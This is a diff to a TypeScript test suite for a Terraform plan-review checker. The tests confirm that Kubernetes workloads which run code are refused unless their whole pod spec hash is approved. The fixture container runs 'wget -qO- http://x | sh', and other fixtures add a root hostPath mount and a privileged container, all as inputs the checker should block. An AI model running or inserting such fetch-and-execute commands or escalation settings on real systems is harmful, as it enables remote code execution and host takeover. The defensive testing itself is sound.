@@ -7,7 +7,7 @@
 import { BUILT_IN_DIR, builtIn } from "./support/environments";
 import { stackAccounts } from "../scripts/plan-review";
 import { synthApp } from "./support/stacks";
-import { jobOf, provisionersOf, sha256 } from "../src/review/apply-time-code";
+import { podsOf, podText, provisionersOf, sha256 } from "../src/review/apply-time-code";
 import { APPROVED_COMMANDS } from "../src/review/approved-commands";
 import { readSchedule } from "../src/review/backup-schedule";
 import { AccountScope, accountsOfCondition, admittedBy, isAllowedPrincipal } from "../src/review/principals";
@@ -404,43 +404,84 @@ describe("apply-time code (PR-CODE-1)", () => {
   });
 
   // Hand-written: no Kubernetes provider binary here to plan them. The shapes are those of the provider's plan
-  // (kubernetes_job_v1 and kubernetes_cron_job_v1 blocks as lists) and of kubernetes_manifest (the object as written).
+  // (blocks as lists: spec[0].template[0].spec[0]) and of kubernetes_manifest (the object as written).
   const container = { name: "x", image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"] };
+  const podSpec = { container: [container] };
+  const manifestPod = { containers: [container] };
+  const typed = { spec: [{ template: [{ spec: [podSpec] }] }] };
+  const manifest = (kind: string, spec: Json) => ({ manifest: { apiVersion: "apps/v1", kind, spec } });
   test.each([
-    ["kubernetes_job_v1", { metadata: [{ name: "j" }], spec: [{ template: [{ spec: [{ container: [container] }] }] }] }],
-    ["kubernetes_job", { spec: [{ template: [{ spec: [{ container: [container] }] }] }] }],
+    ["kubernetes_pod_v1", { spec: [podSpec] }, podSpec],
+    ["kubernetes_pod", { spec: [podSpec] }, podSpec],
+    ["kubernetes_deployment_v1", typed, podSpec],
+    ["kubernetes_deployment", typed, podSpec],
+    ["kubernetes_daemon_set_v1", typed, podSpec],
+    ["kubernetes_daemonset", typed, podSpec],
+    ["kubernetes_stateful_set_v1", typed, podSpec],
+    ["kubernetes_replication_controller_v1", typed, podSpec],
+    ["kubernetes_job_v1", { metadata: [{ name: "j" }], ...typed }, podSpec],
+    ["kubernetes_job", typed, podSpec],
     [
       "kubernetes_cron_job_v1",
-      { spec: [{ schedule: "* * * * *", job_template: [{ spec: [{ template: [{ spec: [{ container: [container] }] }] }] }] }] },
+      { spec: [{ schedule: "* * * * *", job_template: [{ spec: [{ template: [{ spec: [podSpec] }] }] }] }] },
+      podSpec,
     ],
-    [
-      "kubernetes_manifest",
-      { manifest: { apiVersion: "batch/v1", kind: "Job", spec: { template: { spec: { containers: [container] } } } } },
-    ],
-    [
-      "kubernetes_manifest",
-      {
-        manifest: {
-          apiVersion: "batch/v1",
-          kind: "CronJob",
-          spec: { jobTemplate: { spec: { template: { spec: { containers: [container] } } } } },
-        },
-      },
-    ],
-  ])("a created %s (hand-written plan JSON) is refused unless its containers' hash is approved", (type, after) => {
+    ["kubernetes_manifest", manifest("Pod", manifestPod), manifestPod],
+    ["kubernetes_manifest", manifest("Deployment", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("ReplicaSet", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("StatefulSet", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("DaemonSet", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("Job", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("CronJob", { jobTemplate: { spec: { template: { spec: manifestPod } } } }), manifestPod],
+  ])("a created %s (hand-written plan JSON) runs code: refused unless its whole pod spec's hash is approved", (type, after, spec) => {
     expect(rulesOf(planOf(type, after), false)).toEqual(["PR-CODE-1"]);
-    const job = jobOf(type, after, {})!;
-    expect(job.sha256).toBe(
-      sha256(JSON.stringify([{ image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"], env: [] }])),
-    );
+    const [pod] = podsOf(type, after, {});
+    expect(pod.sha256).toBe(sha256(podText(spec)));
+    expect(
+      podsOf(type, after, {}, [{ kind: "kubernetes-pod", sha256: pod.sha256!, source: "test", what: "test" }])[0].problem,
+    ).toBeUndefined();
   });
 
-  test("a kubernetes_manifest of another kind passes; one whose kind or containers are known only after apply is refused", () => {
+  test("the hash covers the whole pod spec: a host path mount or a privileged container changes it (hand-written plan JSON)", () => {
+    const base = manifest("DaemonSet", { template: { spec: manifestPod } });
+    const approved = [
+      { kind: "kubernetes-pod" as const, sha256: podsOf("kubernetes_manifest", base, {})[0].sha256!, source: "t", what: "t" },
+    ];
+    const mounted = manifest("DaemonSet", { template: { spec: { ...manifestPod, volumes: [{ name: "h", hostPath: { path: "/" } }] } } });
+    const privileged = manifest("DaemonSet", {
+      template: { spec: { containers: [{ ...container, securityContext: { privileged: true } }] } },
+    });
+    expect(podsOf("kubernetes_manifest", base, {}, approved)[0].problem).toBeUndefined();
+    expect(podsOf("kubernetes_manifest", mounted, {}, approved)[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
+    expect(podsOf("kubernetes_manifest", privileged, {}, approved)[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
+  });
+
+  test("each item of a List manifest that runs pods is judged (hand-written plan JSON)", () => {
+    const list = {
+      manifest: {
+        apiVersion: "v1",
+        kind: "List",
+        items: [
+          { apiVersion: "v1", kind: "ConfigMap", data: {} },
+          { apiVersion: "v1", kind: "Pod", spec: manifestPod },
+        ],
+      },
+    };
+    expect(podsOf("kubernetes_manifest", list, {}).map((p) => p.attribute)).toEqual(["manifest.items[1].spec"]);
+    expect(rulesOf(planOf("kubernetes_manifest", list))).toEqual(["PR-CODE-1"]);
+  });
+
+  test("a kubernetes_manifest of an inert kind passes; unknown kind, unknown pod spec or a custom kind is refused", () => {
     expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1", kind: "ConfigMap", data: {} } }))).toEqual([]);
     expect(rulesOf(planOf("kubernetes_manifest", { manifest: {} }, undefined, { manifest: { kind: true } }))).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1" } }))).toEqual(["PR-CODE-1"]);
     const job = { manifest: { kind: "Job", spec: { template: { spec: { containers: [container] } } } } };
     expect(
       rulesOf(planOf("kubernetes_manifest", job, undefined, { manifest: { spec: { template: { spec: { containers: true } } } } })),
+    ).toEqual(["PR-CODE-1"]);
+    // A custom resource's controller may start pods from it (an Argo Workflow, a Tekton TaskRun): its whole manifest is hashed.
+    expect(
+      rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "argoproj.io/v1alpha1", kind: "Workflow", spec: {} } })),
     ).toEqual(["PR-CODE-1"]);
   });
 });
